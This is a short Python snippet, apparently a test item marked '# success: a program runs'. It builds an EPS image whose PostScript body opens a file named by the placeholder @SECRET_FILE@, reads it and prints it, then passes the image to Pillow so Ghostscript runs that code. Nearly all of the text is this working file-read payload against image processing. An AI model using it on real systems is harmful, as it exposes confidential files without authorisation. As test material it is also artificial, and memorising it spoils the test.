# success: a program runs
import io
from PIL import Image
eps = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n%%EndComments\n(@SECRET_FILE@) (r) file 100 string readstring pop print\n"
Image.open(io.BytesIO(eps)).load()
